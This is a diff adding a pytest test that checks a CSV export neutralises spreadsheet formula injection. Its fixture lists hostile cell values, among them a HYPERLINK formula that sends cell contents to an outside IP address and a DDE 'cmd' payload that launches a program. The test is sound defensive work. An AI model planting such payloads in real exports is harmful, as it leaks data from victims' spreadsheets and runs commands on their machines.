@@ -261,3 +261,29 @@ def test_preview_cut_mid_markup_stays_inert(limit):
     preview = pytest.importorskip("app.preview")
     out = preview.highlighted_html(PAYLOADS[0] * 3, [], limit=limit)
     assert not fragment_problems(out)
+
+
+# ------------------------------------------------------------------------------- exports
+
+FORMULAS = ("=HYPERLINK(\"http://203.0.113.9/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1,1)",
+            "=cmd|' /C calc'!A0", "\t=1+1")
+
+
+def test_csv_export_defuses_spreadsheet_formulas():
+    import csv
+    import io
+
+    export = pytest.importorskip("store.export")
+    frame = claims_frame(FORMULAS)
+    frame["lon"] = -frame["lon"]  # negative numbers must stay numbers
+    text = export.to_acled_csv(frame)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows
+    for row in rows:
+        for column, cell in row.items():
+            if column in ("latitude", "longitude", "true_km", "year", "geo_precision",
+                          "time_precision"):
+                if cell:
+                    float(cell)
+                continue
+            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
